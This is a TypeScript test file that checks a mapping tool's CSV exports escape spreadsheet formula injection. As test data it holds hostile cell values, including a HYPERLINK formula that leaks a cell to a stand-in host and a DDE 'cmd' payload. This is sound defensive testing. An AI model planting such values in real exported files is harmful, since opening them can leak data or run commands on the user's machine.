// Every CSV GapMap writes is safe to open in a spreadsheet: a text cell that a spreadsheet would run
// as a formula (= + - @, a leading tab or carriage return) is written with an apostrophe before it,
// numbers are left as numbers, and the files read back cell for cell. Hand-made hostile values, as a
// careless or hostile file would carry them in a scheme's id or name, an LSOA's name or a problem.

import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { coverageCsv, COVERAGE_CSV_HEADER } from '../../src/data/coverage-csv';
import { writeCsv } from '../../src/data/csv-writer';
import { gapsCsv } from '../../src/data/gaps-csv';
import { problemsCsv } from '../../src/data/import/problems-csv';
import type { Scheme } from '../../src/core/scheme';

const HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

const read = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data;

describe('writeCsv', () => {
  it('puts an apostrophe before every text cell a spreadsheet would run as a formula', () => {
    const rows = read(
      writeCsv(
        ['value'],
        HOSTILE.map((text) => [text]),
      ),
    );
    expect(rows.slice(1).map((row) => row[0])).toEqual(HOSTILE.map((text) => `'${text}`));
  });

  it('leaves numbers, and text that is not a formula, as they are', () => {
    const text = writeCsv(['a', 'b', 'c'], [[-5, 'E01000001', 'Trafford, Greater Manchester']]);
    expect(text).toBe('a,b,c\r\n-5,E01000001,"Trafford, Greater Manchester"');
  });

  it('writes the header alone, with no line break after it, when there are no rows', () => {
    expect(writeCsv(['a', 'b'], [], { newline: '\n' })).toBe('a,b');
  });
});

describe('the CSVs GapMap writes', () => {
  it("the CLI's per-LSOA table escapes a scheme id that is a formula", () => {
    const scheme = (id: string): Scheme => ({ id, name: id, kind: 'grant', amountGbp: 10, footprint: { type: 'point', point: [0, 0], radiusM: 0 } });
    const schemes = [scheme('=HYPERLINK("http://example.invalid","x")'), scheme('T-1')];
    // LSOA 0 reached by both schemes (ids sorted: the formula first), LSOA 1 by none.
    const text = coverageCsv(['E01000001', 'E01000002'], { lsoaStart: new Uint32Array([0, 2, 2]), lsoaSchemes: new Uint32Array([0, 1]) }, schemes, [20, 0]);
    expect(text.endsWith('\n')).toBe(true);
    const rows = read(text);
    expect(rows[0]).toEqual(COVERAGE_CSV_HEADER.split(','));
    expect(rows[1]).toEqual(['E01000001', '2', '20', `'=HYPERLINK("http://example.invalid","x");T-1`]);
    expect(rows).toHaveLength(2);
  });

  it("an import's problems CSV escapes the file's own values and names", () => {
    const rows = read(
      problemsCsv('=evil.csv', [{ row: 3, column: '@name', value: '+44 161 000', severity: 'error', message: 'no location: the row has no postcode' }]),
    );
    expect(rows[1]).toEqual(["'=evil.csv", '3', '', '', "'@name", "'+44 161 000", 'error', 'no location: the row has no postcode']);
  });

  it('the gap list escapes an LSOA or ward name that is a formula', () => {
    const rows = read(
      gapsCsv([
        { rank: 1, decile: 1, code: 'E01000001', name: '=1+1', ward: '-Ward', people: 1500, schemes: 0, services: 0, stops: 0, gbpPerHead: null, km: 1.234 },
      ]),
    );
    expect(rows[1]).toEqual(['1', '1', 'E01000001', "'=1+1", "'-Ward", '1500', '0', '0', '0', '', '1.23']);
  });
});
